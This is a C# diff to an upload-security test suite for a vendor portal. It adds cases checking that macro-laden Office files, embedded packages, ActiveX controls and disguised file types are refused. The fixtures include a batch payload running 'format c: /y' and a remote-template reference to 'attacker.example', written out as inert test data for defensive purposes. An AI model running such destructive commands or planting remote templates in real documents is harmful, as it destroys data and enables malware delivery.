@@ -1,5 +1,6 @@
 using System.Net;
 using System.Text;
+using FunctionsPortal.Tests.Evidence;
 using FunctionsPortal.Tests.Fakes;
 using FunctionsPortal.Responses;
 using FunctionsPortal.Tests.Fixtures;
@@ -128,10 +129,17 @@ public static partial class HostileCases
             ("a ZIP as .zip", "bundle.zip", () => Zip(("a.txt", "a"u8.ToArray()))),
             ("a macro document named .docx", "policy.docx", () => Zip(("[Content_Types].xml", "<Types/>"u8.ToArray()), ("word/document.xml", "<w/>"u8.ToArray()), ("word/vbaProject.bin", [0xD0, 0xCF, 0x11, 0xE0]))),
             ("an empty file", "empty.pdf", () => []),
-            ("a file over the size limit", "huge.pdf", () => [.. SurveyScenario.Pdf(), .. new byte[5000]]),
+            ("a file over the size limit", "huge.pdf", () => [.. SurveyScenario.Pdf(), .. new byte[70_000]]),
             ("a PNG named .pdf", "scan.pdf", () => [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 13]),
             ("a batch file named .txt", "run.txt", () => Encoding.ASCII.GetBytes("@echo off\r\nformat c: /y\r\n\0")),
             ("a bare compound-file header named .doc", "old.doc", () => [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[504]]),
+            ("a Word 97-2003 file with a VBA project", "macro.doc", () => WithStorages(OfficeSamples.Doc(), "Macros", "VBA")),
+            ("an Excel 97-2003 file with a VBA project", "macro.xls", () => WithStorages(OfficeSamples.Xls(), "_VBA_PROJECT_CUR", "VBA")),
+            ("a Word 97-2003 file carrying a package", "package.doc", () => OfficeSamples.Doc().AddStream("\u0001Ole10Native", [.. "MZ"u8, .. new byte[200]]).ToArray()),
+            ("a password-protected workbook", "locked.xlsx", OfficeSamples.EncryptedOoxml),
+            ("a VBA project declared under an image's name", "image.docx", () => OfficeSamples.Package(declarations: ["<Override PartName=\"/word/media/image1.png\" ContentType=\"application/vnd.ms-office.vbaProject\"/>"], parts: ("word/media/image1.png", "x"))),
+            ("a remote template", "template.docx", () => OfficeSamples.Package(mainRelationships: [OfficeSamples.Rel("rId5", "attachedTemplate", "https://attacker.example/t.dotm", external: true)])),
+            ("an ActiveX control", "control.docx", () => OfficeSamples.Package(declarations: ["<Override PartName=\"/word/activeX/activeX1.xml\" ContentType=\"application/vnd.ms-office.activeX+xml\"/>"], parts: ("word/activeX/activeX1.xml", "<ax/>"))),
         };
         var cases = refused.Select(file => Upload($"refused: {file.Name}", file.FileName, file.Content, (world, draft) =>
             draft.Evidence.Any(stored => stored.FileName == file.FileName) ? $"{file.FileName} was stored" : null)).ToList();
@@ -152,7 +160,7 @@ public static partial class HostileCases
             draft.Evidence.Count > 0 && draft.Evidence[0] is { } stored && (stored.FileName.Contains('/', StringComparison.Ordinal) || stored.FileName.Contains('\\', StringComparison.Ordinal)
                 || stored.FileName.Any(char.IsControl) || stored.FileName.Contains('\u202E', StringComparison.Ordinal))
                 ? $"stored as '{stored.FileName}'" : null, checkDownload: true)));
-        cases.Add(Upload("twelve files at once", "many.pdf", () => SurveyScenario.Pdf(), (world, draft) => draft.Evidence.Sum(file => file.Size) > 65536 ? "over the assignment's allowance" : null, copies: 12));
+        cases.Add(Upload("twelve files at once", "many.pdf", () => SurveyScenario.Pdf(), (world, draft) => draft.Evidence.Sum(file => file.Size) > 1048576 ? "over the assignment's allowance" : null, copies: 12));
         cases.Add(Upload("a file for an item that does not exist", "ghost.pdf", () => SurveyScenario.Pdf(), (world, draft) =>
             draft.Evidence.Any(file => file.ItemId == "XXX-99") ? "stored for an item that does not exist" : null, field: "f.XXX-99"));
         return cases;
@@ -206,6 +214,14 @@ public static partial class HostileCases
                 : download.Content.Headers.ContentType?.MediaType != "application/pdf" ? $"served as {download.Content.Headers.ContentType}"
                 : null;
         });
+
+    /// <summary>A compound file with a storage holding a stream under it (where Office keeps a VBA project).</summary>
+    private static byte[] WithStorages(CompoundFileWriter file, string storage, string stream)
+    {
+        var parent = file.AddStorage(storage);
+        file.AddStream(stream, [.. "Attribute VB_Name"u8, .. new byte[64]], parent);
+        return file.ToArray();
+    }
 
     private static readonly HttpRequestOptionsKey<InvitedVendor> UploadedTo = new("hostile-upload-vendor");
 }
